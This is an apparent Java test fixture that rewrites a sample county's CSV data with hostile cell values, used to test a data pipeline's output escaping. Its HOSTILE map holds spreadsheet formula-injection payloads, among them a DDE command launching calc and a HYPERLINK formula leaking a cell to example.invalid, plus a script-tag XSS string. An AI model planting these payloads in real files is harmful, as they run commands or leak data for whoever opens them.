package org.daijiao.cli;

import java.io.IOException;
import java.io.Reader;
import java.io.UncheckedIOException;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.daijiao.PipelineFixture;
import org.daijiao.TestSpark;
import org.daijiao.ops.RunHistory;
import org.daijiao.ops.RunRecord;
import org.daijiao.spark.Warehouse;

/**
 * The fixture county ({@code fixture-county}, see fixture-county.md) as a hostile clerk typed it:
 * every village and a few names replaced by text that a spreadsheet would run (formulas starting
 * with {@code =}, {@code +}, {@code -}, {@code @}) or a browser would (HTML). Run through the
 * command line's {@code run} as of 2022-06-30 (run {@link #june}), then run again as of 2022-12-31
 * (run {@link #december}; a {@code decide} alone as of December would be refused, the silver tables
 * being June's), so that its warehouse holds several runs and its gold tables several versions.
 * Built once per JVM; tests copy the warehouse before they change it.
 */
final class HostileCounty {
  private static final Path FIXTURE = Path.of("src/test/resources/fixture-county");

  /** Cell of the fixture → what the hostile copy has instead (every file, every column). */
  static final Map<String, String> HOSTILE =
      Map.of(
          "鼓楼社区", "=1+1",
          "石嘴社区", "@SUM(1+1)*cmd|' /C calc'!A0",
          "河堡社区", "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"河堡\")",
          "溪口村", "+1+1",
          "大河坝村", "-1+1",
          // P08, who enters the ledger between June and December (fixture-county.md).
          "田八", "=HYPERLINK(\"http://example.invalid\",\"田八\")",
          // P07, who turns 16 on 2022-11-10 and enters too.
          "田七", "@田七",
          "田一", "<script>alert('田一')</script>",
          "李六", "-李六");

  private static HostileCounty built;

  final Path input;
  final Warehouse warehouse;
  final RunRecord june;
  final RunRecord december;

  private HostileCounty(Path input, Warehouse warehouse, RunRecord june, RunRecord december) {
    this.input = input;
    this.warehouse = warehouse;
    this.june = june;
    this.december = december;
  }

  static synchronized HostileCounty get() {
    if (built == null) {
      built = build();
    }
    return built;
  }

  private static HostileCounty build() {
    // The shared session first: a command that finds none makes its own and stops it at its end.
    TestSpark.session();
    Path input = PipelineFixture.tempDir("hostile-input");
    try (Stream<Path> files = Files.walk(FIXTURE)) {
      for (Path f : files.filter(Files::isRegularFile).toList()) {
        Path copy = input.resolve(FIXTURE.relativize(f).toString());
        Files.createDirectories(copy.getParent());
        rewrite(f, copy);
      }
      Warehouse w = new Warehouse(PipelineFixture.tempDir("hostile-warehouse").toString());
      String[][] commands = {
        {"run", "--input", input.toString(), "--year", "2022", "--as-of", "2022-06-30"},
        {"run", "--input", input.toString(), "--year", "2022", "--as-of", "2022-12-31"}
      };
      for (String[] command : commands) {
        String[] args = java.util.Arrays.copyOf(command, command.length + 2);
        args[command.length] = "--warehouse";
        args[command.length + 1] = w.root();
        CliRun r = CliRun.of(args);
        if (r.exitCode() != 0) {
          throw new IllegalStateException(String.join(" ", args) + ": " + r.err());
        }
      }
      List<RunRecord> runs = RunHistory.read(TestSpark.session(), w).newestFirst();
      return new HostileCounty(input, w, runs.get(1), runs.get(0));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** The fixture file with every hostile replacement, written as a CSV again (quoted as needed). */
  private static void rewrite(Path from, Path to) throws IOException {
    List<List<String>> rows = new ArrayList<>();
    try (Reader r = Files.newBufferedReader(from, StandardCharsets.UTF_8);
        CSVParser csv = CSVParser.parse(r, CSVFormat.RFC4180)) {
      for (CSVRecord record : csv) {
        List<String> row = new ArrayList<>();
        record.forEach(cell -> row.add(HOSTILE.getOrDefault(cell, cell)));
        rows.add(row);
      }
    }
    try (Writer w = Files.newBufferedWriter(to, StandardCharsets.UTF_8);
        CSVPrinter out = new CSVPrinter(w, CSVFormat.RFC4180)) {
      out.printRecords(rows);
    }
  }

  /** A copy of the warehouse that a test may change. */
  Warehouse copy(String prefix) {
    Path to = PipelineFixture.tempDir(prefix);
    copyTree(Path.of(warehouse.root()), to);
    return new Warehouse(to.toString());
  }

  static void copyTree(Path from, Path to) {
    try (Stream<Path> tree = Files.walk(from)) {
      for (Path p : tree.toList()) {
        Path target = to.resolve(from.relativize(p).toString());
        if (Files.isDirectory(p)) {
          Files.createDirectories(target);
        } else {
          Files.copy(p, target);
        }
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
